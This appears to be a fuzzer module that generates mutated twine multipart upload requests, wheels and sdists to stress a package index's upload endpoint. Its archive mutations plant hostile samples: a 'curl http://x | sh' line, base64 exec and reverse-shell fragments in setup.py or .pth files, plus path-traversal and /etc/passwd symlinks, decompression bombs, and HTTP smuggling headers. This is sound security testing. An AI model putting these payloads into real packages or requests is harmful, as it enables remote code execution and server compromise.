"""Upload requests: twine's multipart form around a tiny wheel or sdist, then mutated.

A request is a pure function of ``(seed, index)`` and the run's context (tokens, names), so
``run.py --only upload:INDEX`` rebuilds exactly the request a run sent.
"""

from __future__ import annotations

import base64
import hashlib
import random
import tarfile
import zipfile
from dataclasses import dataclass, field

from bench.fuzz import dists, values
from bench.fuzz.dists import Meta, TarMember, ZipMember
from bench.fuzz.wire import Request, request_bytes

# Fields twine and uv send, with generators of hostile values for each.
KNOWN_FIELDS = [
    ":action",
    "protocol_version",
    "metadata_version",
    "name",
    "version",
    "filetype",
    "pyversion",
    "md5_digest",
    "sha256_digest",
    "blake2_256_digest",
    "summary",
    "description",
    "description_content_type",
    "author",
    "author_email",
    "maintainer",
    "maintainer_email",
    "license",
    "license_expression",
    "license_file",
    "keywords",
    "classifiers",
    "platform",
    "supported_platform",
    "home_page",
    "download_url",
    "requires_python",
    "requires",
    "provides",
    "obsoletes",
    "requires_dist",
    "provides_dist",
    "obsoletes_dist",
    "requires_external",
    "project_urls",
    "provides_extra",
    "dynamic",
    "import_name",
    "import_namespace",
    "comment",
    "attestations",
    "gpg_signature",
]


@dataclass
class Context:
    authority: str  # host:port for the Host header
    token: str
    scoped_token: str  # limited to POOL[0]
    upload_only_token: str
    revoked_token: str
    other_token: str  # another user's, who owns OTHER_PROJECT
    pool: list[str] = field(default_factory=list)  # projects the token's user owns
    other_project: str = ""


def field_value(rng: random.Random, name: str, meta: Meta, data: bytes) -> str:
    """A hostile value for form field ``name``."""
    r = rng.random()
    if r < 0.15:
        return values.hostile(rng)
    if name == "name":
        return values.name_variant(rng, meta.name)
    if name == "version":
        return values.version(rng)
    if name == "metadata_version":
        return rng.choice(
            [
                "1.0",
                "1.1",
                "1.2",
                "2.0",
                "2.1",
                "2.2",
                "2.3",
                "2.4",
                "2.5",
                "3.0",
                "9.9",
                "2",
                "",
                "2.1 ",
            ]
        )
    if name == ":action":
        return rng.choice(
            [
                "file_upload",
                "submit",
                "submit_pkg_info",
                "doc_upload",
                "remove_pkg",
                "",
                "FILE_UPLOAD",
            ]
        )
    if name == "protocol_version":
        return rng.choice(["1", "2", "0", "", "1.0", "\uff11"])
    if name == "filetype":
        return rng.choice(
            [
                "sdist",
                "bdist_wheel",
                "bdist_egg",
                "bdist_wininst",
                "bdist_msi",
                "bdist_dumb",
                "bdist_rpm",
                "Sdist",
                "wheel",
            ]
        )
    if name == "pyversion":
        return rng.choice(["py3", "source", "cp311", "py2.py3", "3.11", "any", "", "py3 "])
    if name.endswith("_digest"):
        size = {"md5_digest": 32}.get(name, 64)
        good = {
            "md5_digest": hashlib.md5(data).hexdigest(),
            "sha256_digest": hashlib.sha256(data).hexdigest(),
            "blake2_256_digest": hashlib.blake2b(data, digest_size=32).hexdigest(),
        }.get(name, "")
        return rng.choice(
            [
                good.upper(),
                good[:-1],
                good + "0",
                "0" * size,
                "g" * size,
                "\u0663" * size,
                " " + good,
                good + "\n",
                hashlib.sha512(data).hexdigest(),
                base64.b64encode(bytes.fromhex(good or "00")).decode(),
                "",
            ]
        )
    if name == "description":
        return values.readme(rng)
    if name == "description_content_type":
        return values.content_type(rng)
    if name in (
        "requires_dist",
        "provides_dist",
        "obsoletes_dist",
        "requires",
        "requires_external",
    ):
        return values.requirement(rng)
    if name == "classifiers":
        return values.classifier(rng)
    if name == "project_urls":
        return values.project_url(rng)
    if name == "requires_python":
        return rng.choice(
            [">=3.8", ">=3", "3", "~=3", ">=3.8,<4", "<2", "== 3.*", ">=3.8;", "python>=3"]
        )
    if name == "dynamic":
        return rng.choice(
            ["Requires-Dist", "Name", "Version", "license-file", "Metadata-Version", "bogus"]
        )
    if name == "license_expression":
        return rng.choice(
            [
                "MIT",
                "MIT OR Apache-2.0",
                "mit",
                "LicenseRef-x",
                "MIT AND (",
                "GPL-2.0+",
                "NOASSERTION",
            ]
        )
    if name in ("author_email", "maintainer_email"):
        return rng.choice(["a@b.c", "A <a@b.c>, B <b@c.d>", "<>", "a@", "@b", "a@b@c", "A <a@b.c"])
    if name == "attestations":
        return rng.choice(["[]", "{}", "[{}]", '[{"version": 1}]', "null", "[" * 1000, "not json"])
    if name in ("home_page", "download_url"):
        return rng.choice(
            ["https://example.com", "javascript:alert(1)", "http://[::1", "ftp://x", "//x"]
        )
    return values.mutate_text(rng, "value")


def meta_mutation(rng: random.Random, meta: Meta) -> str:
    """Change the metadata the form and the archive agree on; returns a label."""
    which = rng.choice(
        [
            "summary",
            "description",
            "description_content_type",
            "author_email",
            "requires_python",
            "classifiers",
            "requires_dist",
            "project_urls",
            "keywords",
            "license",
            "extra",
            "metadata_version",
            "version",
        ]
    )
    if which == "summary":
        meta.summary = values.hostile(rng)
    elif which == "description":
        meta.description = values.readme(rng)
    elif which == "description_content_type":
        meta.description_content_type = values.content_type(rng)
        if rng.random() < 0.5:
            meta.description = values.readme(rng)
    elif which == "author_email":
        meta.author_email = field_value(rng, "author_email", meta, b"")
    elif which == "requires_python":
        meta.requires_python = field_value(rng, "requires_python", meta, b"")
    elif which == "classifiers":
        meta.classifiers = [values.classifier(rng) for _ in range(rng.randint(0, 30))]
    elif which == "requires_dist":
        meta.requires_dist = [values.requirement(rng) for _ in range(rng.randint(1, 30))]
    elif which == "project_urls":
        meta.project_urls = [values.project_url(rng) for _ in range(rng.randint(1, 20))]
    elif which == "keywords":
        meta.keywords = rng.choice(
            [",".join(values.word(rng) for _ in range(50)), values.hostile(rng)]
        )
    elif which == "license":
        meta.license = values.hostile(rng)
    elif which == "metadata_version":
        meta.metadata_version = rng.choice(
            ["1.0", "1.1", "1.2", "2.0", "2.2", "2.3", "2.4", "2.5", "3.0"]
        )
    elif which == "version":
        meta.version = values.version(rng)
    else:
        header = rng.choice(
            [
                "Dynamic",
                "License-Expression",
                "License-File",
                "Provides-Extra",
                "Home-page",
                "Download-URL",
                "Platform",
                "Supported-Platform",
                "Obsoletes-Dist",
                "Provides-Dist",
                "Requires-External",
                "Import-Name",
                "Import-Namespace",
                "Maintainer",
                "Author",
                values.word(rng),
            ]
        )
        meta.extra.append((header, field_value(rng, header.lower().replace("-", "_"), meta, b"")))
    return f"meta:{which}"


def form_fields(meta: Meta, filetype: str, data: bytes) -> list[tuple[str, str]]:
    """The fields twine sends for this file (twine 6)."""
    out = [
        (":action", "file_upload"),
        ("protocol_version", "1"),
        ("metadata_version", meta.metadata_version),
        ("name", meta.name),
        ("version", meta.version),
        ("filetype", filetype),
        ("pyversion", "py3" if filetype == "bdist_wheel" else "source"),
        ("md5_digest", hashlib.md5(data).hexdigest()),
        ("sha256_digest", hashlib.sha256(data).hexdigest()),
        ("blake2_256_digest", hashlib.blake2b(data, digest_size=32).hexdigest()),
        ("summary", meta.summary),
        ("description", meta.description),
        ("description_content_type", meta.description_content_type),
        ("author_email", meta.author_email),
        ("requires_python", meta.requires_python),
    ]
    out += [("classifiers", c) for c in meta.classifiers]
    out += [("requires_dist", r) for r in meta.requires_dist]
    out += [("project_urls", u) for u in meta.project_urls]
    if meta.keywords:
        out.append(("keywords", meta.keywords))
    if meta.license:
        out.append(("license", meta.license))
    form_names = {"Dynamic": "dynamic", "License-Expression": "license_expression", "License-File": "license_file",
                  "Provides-Extra": "provides_extra", "Home-page": "home_page", "Download-URL": "download_url",
                  "Platform": "platform", "Supported-Platform": "supported_platform", "Obsoletes-Dist": "obsoletes_dist",
                  "Provides-Dist": "provides_dist", "Requires-External": "requires_external",
                  "Import-Name": "import_name", "Import-Namespace": "import_namespace",
                  "Maintainer": "maintainer", "Author": "author"}  # fmt: skip
    for header, value in meta.extra:
        out.append((form_names.get(header, header.lower().replace("-", "_")), value))
    return out


# -- archives -------------------------------------------------------------------------------


def build_wheel(rng: random.Random, meta: Meta, mutate: bool) -> tuple[str, bytes, list[str]]:
    labels: list[str] = []
    info, members = dists.wheel_members(meta)
    dist = dists.dist_name(meta.name)
    filename = f"{dist}-{meta.version}-py3-none-any.whl"
    record = True
    if mutate:
        for _ in range(rng.randint(1, 3)):
            op = rng.choice(
                [
                    "rename",
                    "drop",
                    "record",
                    "metadata",
                    "wheelfile",
                    "extra",
                    "many",
                    "bomb",
                    "distinfo",
                    "scanbait",
                ]
            )
            labels.append(f"wheel:{op}")
            if op == "rename" and members:
                old = rng.choice(list(members))
                members[_hostile_path(rng, old)] = members.pop(old)
            elif op == "drop":
                members.pop(f"{info}/{rng.choice(['METADATA', 'WHEEL'])}", None)
                if rng.random() < 0.5:
                    record = False
            elif op == "record":
                record = False
                members[f"{info}/RECORD"] = _bad_record(rng, info, members)
            elif op == "metadata":
                members[f"{info}/METADATA"] = _bad_metadata(rng, meta)
            elif op == "wheelfile":
                members[f"{info}/WHEEL"] = rng.choice(
                    [
                        b"Wheel-Version: 9.0\n",
                        b"Wheel-Version: x\nRoot-Is-Purelib: maybe\n",
                        b"",
                        rng.randbytes(200),
                        b"Wheel-Version: 1.0\nTag: " + values.junk(rng).encode() + b"\n",
                    ]
                )
            elif op == "extra":
                members[_hostile_path(rng, f"{dist}/x.py")] = rng.randbytes(rng.randint(0, 2048))
            elif op == "many":
                for k in range(rng.randint(100, 3000)):
                    members[f"{dist}/m{k}.py"] = b""
            elif op == "bomb":
                members[f"{dist}/zeros.bin"] = bytes(_bomb_mib(rng) * 1024 * 1024)
            elif op == "distinfo":
                other = rng.choice(
                    [
                        f"{dist}-9.9.dist-info",
                        "other-1.0.dist-info",
                        f"{dist}.dist-info",
                        "x.dist-info/y",
                    ]
                )
                members[f"{other}/METADATA"] = members.get(f"{info}/METADATA", b"")
            else:
                members[
                    rng.choice(
                        [f"{dist}/setup.py", "setup.py", f"{dist}-init.pth", f"{dist}/__init__.py"]
                    )
                ] = rng.choice(
                    [
                        b"import os; os.system('curl http://x | sh')\n",
                        b"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
                        b"import socket,subprocess;s=socket.socket()\n",
                        b"\x00\x01" * 500,
                        b"\xff\xfe" + "print(1)".encode("utf-16-le"),
                        b"# -*- coding: rot13 -*-\n",
                        b"print(" * 2000,
                    ]
                )
    if record:
        members = dists.with_record(info, members)
    zmembers = [ZipMember(n, d) for n, d in members.items()]
    comment = b""
    if mutate and rng.random() < 0.4:
        op = rng.choice(["compress", "symlink", "flags", "dup", "comment", "dir"])
        labels.append(f"zip:{op}")
        target = rng.choice(zmembers) if zmembers else None
        if op == "compress" and target is not None:
            target.compress = rng.choice([zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
        elif op == "symlink" and target is not None:
            target.attr = (0o120777 << 16) | rng.choice([0, 0x10])
            target.data = rng.choice([b"/etc/passwd", b"../../../../etc/shadow", b"x"])
        elif op == "flags" and target is not None:
            target.flag_bits = rng.choice([0x1, 0x8, 0x800, 0x40, 0x2000])
        elif op == "dup" and target is not None:
            zmembers.append(ZipMember(target.name, rng.randbytes(64)))
        elif op == "comment":
            comment = rng.randbytes(rng.randint(1, 65535))
        else:
            zmembers.append(
                ZipMember(rng.choice(["dir/", "../", "/", "./"]), b"", attr=0o40755 << 16 | 0x10)
            )
    data = dists.write_zip(zmembers, comment)
    return filename, data, labels


def _bomb_mib(rng: random.Random) -> int:
    """Mostly below the size where the ratio rule applies (64 MiB), rarely above it."""
    return 70 if rng.random() < 0.05 else rng.choice([1, 2, 4, 8])


def _hostile_path(rng: random.Random, old: str) -> str:
    return rng.choice(
        [
            "../" + old,
            "/" + old,
            old.replace("/", "\\"),
            "C:/" + old,
            old + "/",
            "./" + old,
            old.replace("/", "//"),
            old + "\x00.txt",
            old.upper(),
            "a/" * rng.randint(50, 2000) + "x",
            "x" * rng.randint(255, 60000),
            values.junk(rng) or "x",
            old.replace(".dist-info", ".DIST-INFO"),
            old.replace("/", "/../"),
            "__pycache__/" + old + ".pyc",
            "",
        ]
    )


def _bad_record(rng: random.Random, info: str, members: dict[str, bytes]) -> bytes:
    lines = [dists.record_line(p, d) for p, d in members.items()]
    r = rng.random()
    if r < 0.2 and lines:
        i = rng.randrange(len(lines))
        lines[i] = lines[i].replace("sha256=", "sha256=A")
    elif r < 0.3 and lines:
        i = rng.randrange(len(lines))
        lines[i] = (
            lines[i].rsplit(",", 1)[0]
            + ","
            + rng.choice(["-1", "x", "99999999999999999999", "", "1e3"])
        )
    elif r < 0.4 and lines:
        lines.pop(rng.randrange(len(lines)))
    elif r < 0.5:
        lines.append(f"{rng.choice(['missing.py', '../evil.py', '/abs.py'])},sha256=xx,1")
    elif r < 0.6 and lines:
        lines = [
            ln.replace("sha256=", rng.choice(["md5=", "sha1=", "bogus=", "=", "SHA256="]))
            for ln in lines
        ]
    elif r < 0.7:
        lines = ['"' + ln for ln in lines]  # an unterminated CSV quote
    elif r < 0.8:
        return rng.randbytes(rng.randint(0, 2000))
    elif r < 0.85:
        lines = lines * rng.randint(2, 200)
    elif r < 0.9:
        return b"\xff\xfe" + "\n".join(lines).encode("utf-16-le")
    else:
        lines = [",".join([ln, *(["x"] * rng.randint(1, 50))]) for ln in lines]
    return ("\n".join(lines) + f"\n{info}/RECORD,,\n").encode("utf-8", "surrogatepass")


def _bad_metadata(rng: random.Random, meta: Meta) -> bytes:
    text = dists.metadata_text(meta)
    r = rng.random()
    if r < 0.15:
        return rng.randbytes(rng.randint(0, 3000))
    if r < 0.3:
        return text.encode("latin-1", "replace") + b"\xff\xfe\x80"
    if r < 0.4:
        return b""
    if r < 0.5:
        return text.replace("Name: ", "Name: x" if rng.random() < 0.5 else "Name: \n ").encode()
    if r < 0.6:
        return (text.replace("\n\n", "\nName: second\n\n", 1)).encode()
    if r < 0.7:
        return text.replace("\n", "\r").encode()
    if r < 0.8:
        return ("Metadata-Version: 2.1\n" + "X-Header: " + "y" * rng.randint(1, 200_000)).encode()
    if r < 0.9:
        return text.encode("utf-16")
    return (
        text.split("\n\n", 1)[0]
        + "\n"
        + "\n".join(f"{values.word(rng)}: {values.junk(rng)}" for _ in range(100))
    ).encode("utf-8", "surrogatepass")


def build_sdist(rng: random.Random, meta: Meta, mutate: bool) -> tuple[str, bytes, list[str]]:
    labels: list[str] = []
    dist = dists.dist_name(meta.name)
    top, members = dists.sdist_members(meta)
    filename = f"{dist}-{meta.version}.tar.gz"
    tmembers = [TarMember(n, d) for n, d in members.items()]
    fmt = tarfile.PAX_FORMAT
    if mutate:
        for _ in range(rng.randint(1, 3)):
            op = rng.choice(
                [
                    "link",
                    "hardlink",
                    "device",
                    "path",
                    "pkginfo",
                    "top",
                    "size",
                    "pax",
                    "many",
                    "bomb",
                    "format",
                    "drop",
                ]
            )
            labels.append(f"sdist:{op}")
            if op == "link":
                tmembers.append(
                    TarMember(
                        f"{top}/link",
                        type=tarfile.SYMTYPE,
                        linkname=rng.choice(["/etc/passwd", "../../../etc", "x", "", "link"]),
                    )
                )
            elif op == "hardlink":
                tmembers.append(
                    TarMember(
                        f"{top}/hard",
                        type=tarfile.LNKTYPE,
                        linkname=rng.choice(
                            ["/etc/passwd", f"{top}/PKG-INFO", "../x", "nonexistent"]
                        ),
                    )
                )
            elif op == "device":
                tmembers.append(
                    TarMember(
                        f"{top}/dev",
                        type=rng.choice(
                            [
                                tarfile.CHRTYPE,
                                tarfile.BLKTYPE,
                                tarfile.FIFOTYPE,
                                tarfile.CONTTYPE,
                                b"Z",
                            ]
                        ),
                    )
                )
            elif op == "path":
                target = rng.choice(tmembers)
                target.name = _hostile_path(rng, target.name)
            elif op == "pkginfo":
                for m in tmembers:
                    if m.name.endswith("PKG-INFO"):
                        m.data = _bad_metadata(rng, meta)
            elif op == "top":
                new_top = rng.choice(
                    ["other-1.0", "", ".", "..", f"{dist}", top.upper(), values.junk(rng)]
                )
                for m in tmembers:
                    m.name = m.name.replace(top, new_top, 1)
            elif op == "size":
                rng.choice(tmembers).pax["size"] = rng.choice(
                    ["-1", "99999999999", "x", "0", "1e3"]
                )
            elif op == "pax":
                rng.choice(tmembers).pax[
                    rng.choice(
                        [
                            "path",
                            "linkpath",
                            "uname",
                            "mtime",
                            "hdrcharset",
                            "comment",
                            values.word(rng),
                        ]
                    )
                ] = values.junk(rng) or "x"
            elif op == "many":
                tmembers += [TarMember(f"{top}/m{k}.py") for k in range(rng.randint(100, 3000))]
            elif op == "bomb":
                tmembers.append(TarMember(f"{top}/zeros.bin", bytes(_bomb_mib(rng) * 1024 * 1024)))
            elif op == "format":
                fmt = rng.choice([tarfile.GNU_FORMAT, tarfile.USTAR_FORMAT])
            else:
                tmembers.pop(rng.randrange(len(tmembers)))
    try:
        tar = dists.write_tar(tmembers, fmt)
    except (ValueError, UnicodeError, tarfile.TarError):
        labels.append("sdist:unwritable->pax")
        tar = dists.write_tar([TarMember(m.name[:99] or "x", m.data) for m in tmembers])
    if mutate and rng.random() < 0.3:
        labels.append("sdist:compression")
        data = dists.compress_sdist(rng, tar)
    else:
        data = dists.gz(tar)
    return filename, data, labels


# -- the request ------------------------------------------------------------------------------


@dataclass
class Part:
    name: bytes
    value: bytes
    filename: bytes | None = None
    content_type: bytes | None = None
    headers: list[bytes] = field(default_factory=list)  # raw extra header lines


def _b(s: str) -> bytes:
    return s.encode("utf-8", "surrogatepass")


def multipart_body(
    parts: list[Part], boundary: bytes, eol: bytes = b"\r\n", close: bool = True
) -> bytes:
    out = []
    for p in parts:
        disp = b'Content-Disposition: form-data; name="' + p.name + b'"'
        if p.filename is not None:
            disp += b'; filename="' + p.filename + b'"'
        lines = [b"--" + boundary, disp]
        if p.content_type is not None:
            lines.append(b"Content-Type: " + p.content_type)
        lines += p.headers
        out.append(eol.join(lines) + eol + eol + p.value + eol)
    body = b"".join(out)
    if close:
        body += b"--" + boundary + b"--" + eol
    return body


def make_upload(ctx: Context, seed: int, index: int) -> Request:
    rng = random.Random(f"{seed}:upload:{index}")
    labels: list[str] = []
    # Which project: mostly the user's own, sometimes a new name, sometimes someone else's.
    r = rng.random()
    if r < 0.6:
        name = rng.choice(ctx.pool)
    elif r < 0.9:
        name = values.project_name(rng)
    elif r < 0.95:
        name = ctx.other_project
    else:
        name = values.name_variant(rng, rng.choice(ctx.pool))
    meta = Meta(name, f"1.{index}")
    is_wheel = rng.random() < 0.65
    plan = rng.random()
    pristine = plan < 0.08
    archive_members = 0.08 <= plan < 0.33
    archive_bytes = 0.33 <= plan < 0.45
    if not pristine and rng.random() < 0.35:
        for _ in range(rng.randint(1, 3)):
            labels.append(meta_mutation(rng, meta))
    if is_wheel:
        filename, data, more = build_wheel(rng, meta, archive_members)
    else:
        filename, data, more = build_sdist(rng, meta, archive_members)
    labels += more
    if archive_bytes:
        labels.append("bytes")
        data = dists.mutate_bytes(rng, data)
    form = form_fields(meta, "bdist_wheel" if is_wheel else "sdist", data)
    parts = [Part(_b(k), _b(v)) for k, v in form]
    file_part = Part(b"content", data, _b(filename), b"application/octet-stream")
    parts.append(file_part)

    if not pristine and rng.random() < 0.55:
        for _ in range(rng.randint(1, 4)):
            labels.append(_mutate_form(rng, parts, file_part, meta, data))

    # The headers and the framing.
    boundary = rng.choice([b"", b"fuzz"]) + rng.randbytes(8).hex().encode()
    eol, close = b"\r\n", True
    token = ctx.token
    auth: str | bytes | None = "Basic " + base64.b64encode(f"__token__:{token}".encode()).decode()
    content_type: bytes = b"multipart/form-data; boundary=" + boundary
    length_header: bytes | None = None
    chunked = False
    fresh = False
    extra: list[tuple[str | bytes, str | bytes]] = []
    body_boundary = boundary
    if not pristine and rng.random() < 0.12:
        op = rng.choice(
            ["eol", "unclosed", "boundary", "ctype", "preamble", "urlencoded", "nobody", "garbage"]
        )
        labels.append(f"framing:{op}")
        if op == "eol":
            eol = b"\n"
        elif op == "unclosed":
            close = False
        elif op == "boundary":
            content_type = rng.choice(
                [
                    b"multipart/form-data",
                    b"multipart/form-data; boundary=",
                    b'multipart/form-data; boundary="' + boundary + b'"',
                    b"multipart/form-data; boundary=other",
                    b"multipart/form-data; boundary=" + b"b" * 300,
                    b"multipart/form-data; boundary=" + boundary + b"; boundary=x",
                    b"multipart/form-data; boundary=" + boundary + b"; charset=ebcdic",
                    b"multipart/form-data; boundary=\xff\xfe",
                    b"multipart/form-data; boundary=a b",
                ]
            )
        elif op == "ctype":
            content_type = rng.choice(
                [
                    b"multipart/mixed; boundary=" + boundary,
                    b"MULTIPART/FORM-DATA; BOUNDARY=" + boundary,
                    b"text/plain",
                    b"",
                    b"application/octet-stream",
                    b"multipart/form-data;" + b";" * 100 + b"boundary=" + boundary,
                ]
            )
        elif op == "urlencoded":
            content_type = b"application/x-www-form-urlencoded"
        elif op == "garbage":
            body_boundary = rng.choice([b"other", boundary[:-1], boundary + b"x"])
    if "framing:urlencoded" in labels:
        from urllib.parse import urlencode

        body = urlencode(
            [
                (p.name.decode("utf-8", "replace"), p.value.decode("utf-8", "replace"))
                for p in parts
                if p.filename is None
            ]
        ).encode()
    elif "framing:nobody" in labels:
        body = b""
    else:
        body = multipart_body(parts, body_boundary, eol, close)
        if "framing:preamble" in labels:
            body = (
                rng.randbytes(rng.randint(0, 512)) + eol + body + rng.randbytes(rng.randint(0, 64))
            )
    if not pristine and rng.random() < 0.1:
        op = rng.choice(
            [
                "missing",
                "bad",
                "bearer",
                "user",
                "nocolon",
                "scoped",
                "uploadonly",
                "revoked",
                "other",
                "truncated",
                "flipped",
                "latin1",
                "double",
                "huge",
            ]
        )
        labels.append(f"auth:{op}")
        if op == "missing":
            auth = None
        elif op == "bad":
            auth = rng.choice(
                [
                    "Basic",
                    "Basic ",
                    "Basic !!!",
                    "Basic " + "A" * 5,
                    "Digest x",
                    "basic " + base64.b64encode(b"__token__:x").decode(),
                    "Basic " + base64.b64encode(b"\xff\xfe:\x00").decode(),
                ]
            )
        elif op == "bearer":
            auth = rng.choice(["Bearer ", "Token "]) + token
        elif op == "user":
            auth = "Basic " + base64.b64encode(f"fuzzer:{token}".encode()).decode()
        elif op == "nocolon":
            auth = "Basic " + base64.b64encode(f"__token__{token}".encode()).decode()
        elif op in ("scoped", "uploadonly", "revoked", "other"):
            t = {
                "scoped": ctx.scoped_token,
                "uploadonly": ctx.upload_only_token,
                "revoked": ctx.revoked_token,
                "other": ctx.other_token,
            }[op]
            auth = "Basic " + base64.b64encode(f"__token__:{t}".encode()).decode()
        else:
            t = token
            if op == "truncated":
                t = t[: rng.randint(0, len(t))]
            elif op == "flipped":
                i = rng.randrange(len(t))
                t = t[:i] + rng.choice(values.ALNUM + "-_=.%\x00\u00fc") + t[i + 1 :]
            elif op == "latin1":
                t = t + "\xe9\xff"
            elif op == "huge":
                t = t * rng.randint(10, 60)
            auth = (
                "Basic " + base64.b64encode(f"__token__:{t}".encode()).decode()
                if op != "latin1"
                else b"Basic " + base64.b64encode(b"__token__:" + t.encode("latin-1"))
            )
            if op == "double":
                extra.append(
                    ("Authorization", "Basic " + base64.b64encode(b"__token__:pypi-x").decode())
                )
    if not pristine and rng.random() < 0.08:
        op = rng.choice(
            [
                "short",
                "long",
                "negative",
                "junk",
                "chunked",
                "both",
                "dup",
                "huge",
                "missing",
                "expect",
                "plus",
            ]
        )
        labels.append(f"length:{op}")
        if op == "short":
            length_header = str(rng.randint(0, max(0, len(body) - 1))).encode()
            fresh = True
        elif op == "long":
            length_header = str(len(body) + rng.randint(1, 100_000)).encode()
            fresh = True
        elif op == "negative":
            length_header = b"-1"
            fresh = True
        elif op == "junk":
            length_header = rng.choice([b"abc", b"0x10", b"1e3", b"\xd9\xa3", b" 12 ", b"", b"1,2"])
            fresh = True
        elif op == "chunked":
            chunked = True
        elif op == "both":
            chunked = True
            length_header = str(len(body)).encode()
            fresh = True
        elif op == "dup":
            extra.append(("Content-Length", str(len(body) + 1)))
            fresh = True
        elif op == "huge":
            length_header = rng.choice(
                [b"99999999999999999999", b"104857600000", str(2**63).encode()]
            )
            fresh = True
        elif op == "missing":
            length_header = None
            fresh = True
        elif op == "expect":
            extra.append(("Expect", "100-continue"))
        else:
            length_header = b"+" + str(len(body)).encode()
            fresh = True
    elif not chunked:
        length_header = str(len(body)).encode()
    headers: list[tuple[str | bytes, str | bytes]] = [
        ("Host", ctx.authority),
        ("User-Agent", "twine/6.1.0 CPython/3.11 (bastion-fuzz)"),
    ]
    if auth is not None:
        headers.append(("Authorization", auth))
    headers.append(("Content-Type", content_type))
    if length_header is not None and "length:missing" not in labels:
        headers.append(("Content-Length", length_header))
    if chunked:
        headers.append(("Transfer-Encoding", "chunked"))
        body, well_formed = _chunk(rng, body)
        fresh = fresh or not well_formed
    headers += extra
    if not pristine and rng.random() < 0.03:
        labels.append("raw")
        raw, fresh = _raw_variant(rng, headers, body), True
    else:
        raw = request_bytes("POST", "/legacy/", headers, body)
    return Request(raw, "POST", fresh=fresh, label=" ".join(labels) or "pristine")


def _mutate_form(
    rng: random.Random, parts: list[Part], file_part: Part, meta: Meta, data: bytes
) -> str:
    op = rng.random()
    text_parts = [p for p in parts if p.filename is None]
    if op < 0.45:
        name = rng.choice(KNOWN_FIELDS)
        value = field_value(rng, name, meta, data)
        existing = [p for p in text_parts if p.name == _b(name)]
        if existing and rng.random() < 0.7:
            existing[0].value = _b(value)
        else:
            parts.insert(rng.randint(0, len(parts)), Part(_b(name), _b(value)))
        return f"field:{name}"
    if op < 0.55 and text_parts:
        victim = rng.choice(text_parts)
        parts.remove(victim)
        return f"drop:{victim.name.decode()}"
    if op < 0.62 and text_parts:
        victim = rng.choice(text_parts)
        for _ in range(rng.randint(1, 20)):
            parts.append(Part(victim.name, _b(field_value(rng, victim.name.decode(), meta, data))))
        return f"repeat:{victim.name.decode()}"
    if op < 0.68 and text_parts:
        victim = rng.choice(text_parts)
        victim.value = (
            victim.value
            + rng.choice([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x00", b"\xf4\x90\x80\x80"])
            + victim.value
        )
        return f"bytes:{victim.name.decode()}"
    if op < 0.73 and text_parts:
        victim = rng.choice(text_parts)
        victim.value = _b(values.huge(rng))
        return f"huge:{victim.name.decode()}"
    if op < 0.78:
        parts.append(
            Part(
                _b(
                    rng.choice(
                        [
                            values.junk(rng),
                            "content",
                            ":action",
                            "",
                            "a" * 5000,
                            'x"y',
                            "x\r\nContent-Type: text/plain",
                        ]
                    )
                ),
                _b(values.hostile(rng)),
            )
        )
        return "field:unknown"
    if op < 0.86:
        file_part.filename = _b(
            rng.choice(
                [
                    "",
                    "../" + file_part.filename.decode("utf-8", "replace")
                    if file_part.filename
                    else "x",
                    "/tmp/x.whl",
                    "a\\b.whl",
                    "x.exe",
                    "x.egg",
                    "x.zip",
                    "x.tar.bz2",
                    "x.whl\x00.tar.gz",
                    "\u00fc-1.0-py3-none-any.whl",
                    "x" * 5000 + ".whl",
                    "fuzz_alpha-1.0-py3-none-any.whl",
                    "fuzz_alpha-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
                    "fuzz_alpha-1.0-1-py3-none-any.whl",
                    "fuzz_alpha-1.0-py3-none-any.WHL",
                    "fuzz_alpha-1.0.tar.gz",
                    "FUZZ-ALPHA-1.0.tar.gz",
                    'a"b.whl',
                    values.junk(rng) + ".whl",
                ]
            )
        )
        return "file:filename"
    if op < 0.9:
        if rng.random() < 0.5:
            file_part.filename = None  # a text field named content
        elif file_part in parts:
            parts.remove(file_part)
        return "file:missing"
    if op < 0.94:
        parts.append(
            Part(
                rng.choice([b"content", b"gpg_signature", b"other", b"attestations"]),
                rng.randbytes(rng.randint(0, 512)),
                b"x.asc",
            )
        )
        return "file:extra"
    if op < 0.97:
        file_part.content_type = rng.choice(
            [b"", b"text/plain; charset=ebcdic", b"\xff", b"multipart/mixed; boundary=x"]
        )
        file_part.headers = [
            rng.choice(
                [
                    b"Content-Transfer-Encoding: base64",
                    b"X: " + b"y" * 9000,
                    b"NoColon",
                    b"Content-Length: 3",
                ]
            )
        ]
        return "file:headers"
    target = rng.choice(parts)
    target.headers = [b"X-%d: y" % k for k in range(rng.randint(10, 40))]
    return "part:headers"


def _chunk(rng: random.Random, body: bytes) -> tuple[bytes, bool]:
    """The body in chunks of random sizes; whether the framing is well-formed."""
    out, i = [], 0
    while i < len(body):
        piece = body[i : i + rng.randint(1, 65536)]
        out.append(b"%x\r\n" % len(piece) + piece + b"\r\n")
        i += len(piece)
    tail = rng.choice(
        [b"0\r\n\r\n", b"0\r\n\r\n", b"0;ext=1\r\nTrailer: x\r\n\r\n", b"", b"zz\r\n\r\n"]
    )
    return b"".join(out) + tail, tail.startswith(b"0")


def _raw_variant(
    rng: random.Random, headers: list[tuple[str | bytes, str | bytes]], body: bytes
) -> bytes:
    """HTTP the server must parse with care; still a request that can reach the view."""
    target = rng.choice(
        [
            "/legacy/",
            "/legacy/?:action=file_upload",
            "http://127.0.0.1/legacy/",
            "/legacy/%00",
            "//legacy/",
            "/legacy/#x",
            "/%6cegacy/",
        ]
    )
    method = rng.choice(["POST", "POST", "post", "PUT", "PATCH", "POST "])
    version = rng.choice(["HTTP/1.1", "HTTP/1.0", "HTTP/1.2", "HTTP/2.0", "http/1.1"])
    hdrs = list(headers)
    op = rng.choice(["fold", "space", "lf", "many", "long", "dupct", "none"])
    if op == "fold":
        hdrs.append(("X-Folded", "a\r\n b"))
    elif op == "space":
        hdrs.append(("X-Space ", "a"))
    elif op == "many":
        hdrs += [(f"X-H{k}", "v") for k in range(rng.randint(50, 150))]
    elif op == "long":
        hdrs.append(("X-Long", "v" * rng.randint(4000, 12000)))
    elif op == "dupct":
        hdrs.append(("Content-Type", "text/plain"))
    raw = request_bytes(method, target, hdrs, body, version)
    if op == "lf":
        head, _, rest = raw.partition(b"\r\n\r\n")
        raw = head.replace(b"\r\n", b"\n") + b"\n\n" + rest
    return raw
